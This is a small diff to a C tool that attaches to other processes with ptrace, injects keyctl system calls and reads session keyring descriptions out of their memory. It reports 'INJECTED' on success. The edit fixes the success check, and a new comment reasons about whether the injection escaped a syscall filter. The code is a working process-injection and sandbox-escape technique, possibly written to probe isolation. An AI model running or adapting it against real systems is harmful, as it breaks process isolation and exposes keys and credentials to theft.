@@ -47,7 +47,8 @@ int main(void) {
             long len = inject(pid, 250, 6, -3, at, 128);   /* KEYCTL_DESCRIBE */
             for (int i = 0; len > 0 && i < 128; i += 8) { long w = ptrace(PTRACE_PEEKDATA, pid, at + i, 0); memcpy(desc + i, &w, 8); }
             ptrace(PTRACE_DETACH, pid, 0, 0);
-            if (id > -10000) { printf("INJECTED into pid %d: session keyring id %ld (%s)\n", pid, id, desc); return 0; }
+            /* -errno: it ran the call, but under its filter (it was seized after its exec): no escape. */
+            if (id >= 0) { printf("INJECTED into pid %d: session keyring id %ld (%s)\n", pid, id, desc); return 0; }
         }
         if (d) closedir(d);
     }
